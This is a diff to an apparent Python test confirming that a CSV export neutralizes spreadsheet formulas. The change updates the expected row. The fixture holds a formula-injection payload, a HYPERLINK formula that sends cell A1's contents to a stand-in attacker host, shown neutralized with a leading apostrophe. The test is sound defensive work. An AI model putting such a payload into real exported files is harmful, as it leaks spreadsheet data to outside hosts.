@@ -65,7 +65,7 @@ def test_export_neutralizes_formulas_and_import_reads_them_back(
     lines = out.getvalue().splitlines()
     assert lines[1] == (
         'f0@example.com,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",'
-        'main,active,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"'
+        'main,active,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",import,,,,'
     )
     for line in lines[1:]:  # no cell a spreadsheet would run
         for cell in next(csv.reader([line])):
